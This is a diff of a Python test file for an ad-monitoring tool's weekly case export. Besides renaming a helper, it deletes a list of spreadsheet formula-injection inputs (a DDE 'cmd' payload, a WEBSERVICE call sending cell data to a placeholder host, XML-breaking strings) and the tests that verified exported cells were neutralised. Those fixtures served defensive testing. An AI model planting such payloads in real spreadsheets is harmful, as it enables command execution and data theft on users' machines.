@@ -1,16 +1,13 @@
 from __future__ import annotations
 
-import csv
 import hashlib
 import json
 import os
-import re
 import signal
 import subprocess
 import sys
 import zipfile
 from datetime import UTC, datetime, timedelta
-from io import StringIO
 from pathlib import Path
 from typing import Any
 
@@ -18,7 +15,6 @@ import pytest
 from python_calamine import CalamineWorkbook
 
 from adwatch.casework.export import export_week
-from adwatch.casework.sheet import CELL_LIMIT, cell, csv_cell
 from adwatch.casework.takedown import draft, mark_sent
 from adwatch.casework.weekly import COLUMNS, week_days
 from adwatch.errors import UsageError
@@ -46,33 +42,8 @@ HEADINGS = [
     *("核验时间", "是否复现"),
 ]
 
-HOSTILE = [
-    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)"),
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://a.example","x")',
-    '=WEBSERVICE(CONCATENATE("http://a.example/",A1))',
-    "@SUM(1+9)*cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    '"=1+1',
-    "'=1",
-    "%0A=1",
-    "http://a.example/",
-    "mailto:a@a.example",
-    "internal:Sheet1!A1",
-    "external:c:\\a.xlsx",
-    "1e5",
-    "007",
-    "TRUE",
-    "{=1}",
-    "_x0041_",
-    "a\x00\x01\x08\x0b\x1f\ufffe\ud800b",
-    "</t></is><c t='f'>",
-    "😀" * 40_000,
-    "x" * 40_000,
-]
 
-
-def _export(world: World, folder: Path, fmt: str = "jsonl", week: str = "2026-W47", **more: Any) -> list[Path]:
+def export(world: World, folder: Path, fmt: str = "jsonl", week: str = "2026-W47", **more: Any) -> list[Path]:
     return export_week(
         world.engine,
         week,
@@ -104,7 +75,7 @@ def test_a_week_is_monday_to_sunday_by_the_day_of_the_first_flag(
     world: World, tmp_path: Path, day: str, inside: bool
 ) -> None:
     world.flag(listing("1"), day=day)
-    assert bool(_rows(_export(world, tmp_path))) is inside
+    assert bool(_rows(export(world, tmp_path))) is inside
 
 
 def test_a_listing_counts_in_the_week_of_its_first_flag_only(world: World, tmp_path: Path) -> None:
@@ -112,8 +83,8 @@ def test_a_listing_counts_in_the_week_of_its_first_flag_only(world: World, tmp_p
     world.tick(days=7)
     world.store(listing("1", "包过包过"), day="2026-11-25")
     world.judge(verdict(listing("1", "包过包过")), day="2026-11-25")
-    assert len(_rows(_export(world, tmp_path))) == 1
-    assert _rows(_export(world, tmp_path, week="2026-W48")) == []
+    assert len(_rows(export(world, tmp_path))) == 1
+    assert _rows(export(world, tmp_path, week="2026-W48")) == []
 
 
 @pytest.mark.parametrize("week", ["2026-47", "2026-W54", "2026-W00", "26-W47", "2026-W7", "W47", "", "2026-Wxx"])
@@ -147,7 +118,7 @@ def test_the_row_says_everything_of_the_form(world: World, tmp_path: Path) -> No
     for word in ("gone", "unknown", "up"):
         with writing(world.engine) as connection:
             add_check(connection, listings_of(connection, [1])[0], word, world.tick(days=1), None, "")
-    (row,) = _rows(_export(world, tmp_path))
+    (row,) = _rows(export(world, tmp_path))
     assert {name: row[name] for name in COLUMNS} == {
         "seq": 1,
         "lead_number": "ADW-2026-000001",
@@ -176,7 +147,7 @@ def test_the_row_says_everything_of_the_form(world: World, tmp_path: Path) -> No
 def test_both_scopes_are_listed_and_dismissed_ones_marked(world: World, tmp_path: Path) -> None:
     world.flag(listing("1"), verdict(listing("1"), scope="other_credential"))
     decide(world, world.flag(listing("2")), "dismiss")
-    rows = _rows(_export(world, tmp_path))
+    rows = _rows(export(world, tmp_path))
     assert [(row["scope"], row["dismissed"]) for row in rows] == [
         ("safety_production", True),
         ("other_credential", False),
@@ -188,17 +159,17 @@ def test_both_scopes_are_listed_and_dismissed_ones_marked(world: World, tmp_path
 @pytest.mark.parametrize("fmt", ["xlsx", "csv", "jsonl"])
 def test_an_issue_is_frozen_and_gives_the_same_bytes(world: World, tmp_path: Path, fmt: str) -> None:
     case_id = world.flag(listing("1"))
-    before = [file.read_bytes() for file in _export(world, tmp_path, fmt)]
+    before = [file.read_bytes() for file in export(world, tmp_path, fmt)]
     world.tick(days=9)
     decide(world, case_id)
     world.flag(listing("2"))
-    files = _export(world, tmp_path, fmt)
+    files = export(world, tmp_path, fmt)
     assert [file.read_bytes() for file in files] == before
     assert [file.name for file in files] == [f"2026-W47.{fmt}", "2026-W47-manifest.json"]
-    again = _export(world, tmp_path, fmt, reissue=True)
+    again = export(world, tmp_path, fmt, reissue=True)
     assert [file.name for file in again] == [f"2026-W47-issue2.{fmt}", "2026-W47-issue2-manifest.json"]
     assert json.loads(again[1].read_bytes())["counts"]["listings"] == 2
-    assert [file.read_bytes() for file in _export(world, tmp_path, fmt)] == [file.read_bytes() for file in again]
+    assert [file.read_bytes() for file in export(world, tmp_path, fmt)] == [file.read_bytes() for file in again]
     assert files[0].read_bytes() == before[0], "the first issue stays"
 
 
@@ -209,21 +180,21 @@ def test_as_of_gives_the_list_as_it_was_known_then(world: World, tmp_path: Path)
     decide(world, case_id)
     world.flag(listing("2"))
     with pytest.raises(UsageError, match="future"):
-        _export(world, tmp_path, as_of=world.now + timedelta(days=1))
-    (row,) = _rows(_export(world, tmp_path, as_of=then))
+        export(world, tmp_path, as_of=world.now + timedelta(days=1))
+    (row,) = _rows(export(world, tmp_path, as_of=then))
     assert (row["lead_number"], row["decision"], row["state"]) == ("", "待初筛", "screening")
     world.tick(hours=1)
-    assert len(_rows(_export(world, tmp_path, reissue=True))) == 2
-    assert _rows(_export(world, tmp_path, as_of=then)) == [row]
-    assert len(_rows(_export(world, tmp_path))) == 2
+    assert len(_rows(export(world, tmp_path, reissue=True))) == 2
+    assert _rows(export(world, tmp_path, as_of=then)) == [row]
+    assert len(_rows(export(world, tmp_path))) == 2
     with pytest.raises(UsageError, match="first issued"):
-        _export(world, tmp_path, as_of=NOON - timedelta(days=1))
+        export(world, tmp_path, as_of=NOON - timedelta(days=1))
 
 
 def test_the_manifest_counts_and_names_every_file_of_the_issue(world: World, tmp_path: Path) -> None:
     world.flag(listing("1"))
     world.flag(listing("2", platform="bazaar"), verdict(listing("2"), offer_types=("sure_thing", "paper_trade")))
-    files = [_export(world, tmp_path, fmt)[0] for fmt in ("xlsx", "csv", "jsonl", "xlsx")][:3]
+    files = [export(world, tmp_path, fmt)[0] for fmt in ("xlsx", "csv", "jsonl", "xlsx")][:3]
     manifest = json.loads((tmp_path / "out" / "2026-W47-manifest.json").read_bytes())
     assert {each["name"]: each["sha256"] for each in manifest["files"]} == {
         file.name: hashlib.sha256(file.read_bytes()).hexdigest() for file in files
@@ -244,74 +215,12 @@ def test_the_second_sheet_has_the_figures_and_the_outcomes(world: World, tmp_pat
     for outcome in ("ok", "blocked", "ok"):
         run = start_run(world.engine, "patrol", "2026-11-18", "plaza", "html", world.now)
         end_run(world.engine, run, outcome, {}, world.now)
-    file = _export(world, tmp_path, "xlsx")[0]
+    file = export(world, tmp_path, "xlsx")[0]
     book = CalamineWorkbook.from_path(str(file))
     assert book.sheet_names == ["监测清单", "统计"]
     assert book.get_sheet_by_name("监测清单").to_python()[0] == HEADINGS
     figures = {str(row[0]): row[1] for row in book.get_sheet_by_name("统计").to_python()}
     assert (figures["信息条数"], figures["广场网"], figures["广场网：正常"], figures["广场网：被拦截"]) == (1, 1, 2, 1)
-
-
-def _hostile(world: World) -> None:
-    for number, text in enumerate(HOSTILE):
-        clean = text.replace("\x00", "\ufffd").replace("\ud800", "\ufffd")  # as every text is on its way in
-        more = dict.fromkeys(("title", "seller_name", "operator_name", "seller_region", "price_text", "url"), clean)
-        item = listing(f"n{number}", f"{clean}包过{clean}", **more)
-        world.store(item)
-        world.judge(verdict(item))
-
-
-def test_no_cell_of_the_sheet_is_a_formula_a_link_or_too_long(world: World, tmp_path: Path) -> None:
-    _hostile(world)
-    file = _export(world, tmp_path, "xlsx")[0]
-    with zipfile.ZipFile(file) as package:
-        names = package.namelist()
-        sheet = package.read("xl/worksheets/sheet1.xml").decode()
-        styles = package.read("xl/styles.xml").decode()
-    assert "<f>" not in sheet
-    assert "hyperlink" not in sheet
-    assert not [name for name in names if "external" in name.lower() or "worksheets/_rels" in name]
-    assert 'quotePrefix="1"' in styles, "a cell that is edited stays text"
-    rows = CalamineWorkbook.from_path(str(file)).get_sheet_by_name("监测清单").to_python()
-    assert len(rows) == len(HOSTILE) + 1
-    longest = 0
-    for row in rows[1:]:
-        for value in row[1:]:
-            assert isinstance(value, str), value
-            longest = max(longest, len(value.encode("utf-16-le")) // 2)
-            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", value)
-    assert longest == CELL_LIMIT
-
-
-def test_no_cell_of_the_csv_starts_a_formula(world: World, tmp_path: Path) -> None:
-    _hostile(world)
-    content = _export(world, tmp_path, "csv")[0].read_bytes()
-    assert content.startswith(b"\xef\xbb\xbf")
-    csv.field_size_limit(1 << 20)
-    rows = list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))
-    assert rows[0] == HEADINGS
-    assert len(rows) == len(HOSTILE) + 1
-    for row in rows[1:]:
-        assert len(row) == len(HEADINGS)
-        for value in row:
-            assert not value.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), value
-            assert not value.startswith(("\t", "\r", "\n")), value
-
-
-@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\ta", "\ra", "\na", " =1", "＝1", "\u3000=1"])
-def test_what_starts_a_formula_gets_an_apostrophe(text: str) -> None:
-    assert csv_cell(text) == cell("'" + text)
-
-
-def test_a_cell_is_cut_between_characters_by_the_units_that_excel_counts() -> None:
-    assert cell("x" * 40_000) == "x" * 32_767
-    assert cell("😀" * 40_000) == "😀" * 16_383
-    assert cell("x" * 32_767) == "x" * 32_767
-
-
-@pytest.mark.parametrize("text", ["", "a=1", "1-1", "电工证", "a@b", "'a", "http://a.example"])
-def test_other_cells_stay_as_they_are(text: str) -> None:
-    assert csv_cell(text) == text
 
 
 @pytest.mark.parametrize("fmt", ["xlsx", "csv", "jsonl"])
@@ -320,7 +229,7 @@ def test_no_personal_data_leaves(world: World, tmp_path: Path, fmt: str) -> None
     item = listing("1", f"电工证包过，联系abc13800138000，身份证{number}包过", title=f"包过{number}")
     item_verdict = verdict(item, ("包过", "身份证"), contact="abc13800138000")
     world.flag(item, item_verdict)
-    (file, manifest) = _export(world, tmp_path, fmt)
+    (file, manifest) = export(world, tmp_path, fmt)
     content = file.read_bytes() + manifest.read_bytes()
     if fmt == "xlsx":
         with zipfile.ZipFile(file) as package:
@@ -333,8 +242,8 @@ def test_no_personal_data_leaves(world: World, tmp_path: Path, fmt: str) -> None
 def test_a_kill_before_the_rename_leaves_no_half_file_and_the_same_list(tmp_path: Path) -> None:
     code = (
         "import sys; from pathlib import Path; from adwatch.store.engine import open_engine;"
-        "from tests.store.world import World; from tests.casework.test_export import _export;"
-        "_export(World(open_engine(sys.argv[1])), Path(sys.argv[2]), 'csv')"
+        "from tests.store.world import World; from tests.casework.test_export import export;"
+        "export(World(open_engine(sys.argv[1])), Path(sys.argv[2]), 'csv')"
     )
     from adwatch.store.engine import migrate, open_engine
 
@@ -348,7 +257,7 @@ def test_a_kill_before_the_rename_leaves_no_half_file_and_the_same_list(tmp_path
     assert not (tmp_path / "out" / "2026-W47.csv").exists()
     world.tick(hours=1)
     decide(world, case_id)
-    file = _export(world, tmp_path, "csv")[0]
+    file = export(world, tmp_path, "csv")[0]
     assert "待初筛" in file.read_text(encoding="utf-8-sig"), "it was frozen when it was first issued"
     with reading(engine) as connection:
         assert len(connection.execute(s.export_issue.select()).all()) == 1
@@ -358,9 +267,9 @@ def test_a_kill_before_the_rename_leaves_no_half_file_and_the_same_list(tmp_path
 def test_a_first_flag_of_another_clock_shows_the_patrol_day(world: World, tmp_path: Path) -> None:
     world.now = datetime(2026, 12, 1, 4, 0, tzinfo=UTC)
     world.flag(listing("1"), day="2026-11-18")
-    assert _rows(_export(world, tmp_path))[0]["found_at"] == "2026-11-18"
+    assert _rows(export(world, tmp_path))[0]["found_at"] == "2026-11-18"
 
 
 def test_a_format_that_is_none_is_refused(world: World, tmp_path: Path) -> None:
     with pytest.raises(UsageError, match="xlsx, csv, jsonl"):
-        _export(world, tmp_path, "pdf")
+        export(world, tmp_path, "pdf")
